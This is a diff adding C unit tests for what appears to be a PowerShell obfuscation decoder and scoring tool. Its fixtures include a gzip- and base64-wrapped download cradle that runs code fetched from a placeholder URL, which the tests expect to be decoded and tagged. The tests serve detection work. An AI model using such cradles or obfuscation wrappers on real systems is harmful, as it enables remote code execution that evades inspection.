@@ -138,6 +138,39 @@ test_score(void)
 }
 
 static void
+test_payloads(void)
+{
+	struct ct_buf b = CT_BUF_INIT;
+	struct ct_pwsh_score s;
+	/* gzip of "IEX (New-Object Net.WebClient).DownloadString('http://x/a')" */
+	static const char gz[] = "$s=New-Object IO.MemoryStream(,[Convert]::"
+	    "FromBase64String('H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0d"
+	    "RzyS/Py8lPTAkuKcrMS9dQzygpKbDS16/QT1TXBACk1JhNOwAAAA=='));"
+	    "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream"
+	    "($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
+
+	CHECK_INT(ct_pwsh_decode_payloads(gz, &b), 1);
+	CHECK_STR(b.buf, "IEX (New-Object Net.WebClient).DownloadString('http://x/a')");
+	ct_pwsh_assess(NULL, gz, &s);
+	CHECK(s.tags & CT_PS_COMPRESS);
+	CHECK(s.tags & CT_PS_CRADLE);	/* only inside the compressed payload */
+	ct_buf_reset(&b);
+	/* UTF-16LE payload, no compression. */
+	CHECK_INT(ct_pwsh_decode_payloads("[Text.Encoding]::Unicode.GetString("
+	    "[Convert]::FromBase64String(\"ZABpAHIAIABDADoAXAA=\"))", &b), 1);
+	CHECK_STR(b.buf, "dir C:\\");
+	ct_buf_reset(&b);
+	/* Not base64, too short, not quoted: nothing. */
+	CHECK_INT(ct_pwsh_decode_payloads("FromBase64String($x)", &b), 0);
+	CHECK_INT(ct_pwsh_decode_payloads("FromBase64String('QUJD')", &b), 0);
+	CHECK_INT(ct_pwsh_decode_payloads(NULL, &b), 0);
+	/* Binary: described, not copied. */
+	CHECK_INT(ct_pwsh_decode_payloads("FromBase64String('gIGCg4SFhoeIiYqLjI2Ojw==')", &b), 1);
+	CHECK(strstr(b.buf, "bytes of binary data") != NULL);
+	ct_buf_release(&b);
+}
+
+static void
 test_paths(void)
 {
 	struct ct_buf b = CT_BUF_INIT;
@@ -197,6 +230,7 @@ main(void)
 	test_decode();
 	test_score();
 	test_paths();
+	test_payloads();
 	test_fuzz_replay();
 	return unit_done();
 }
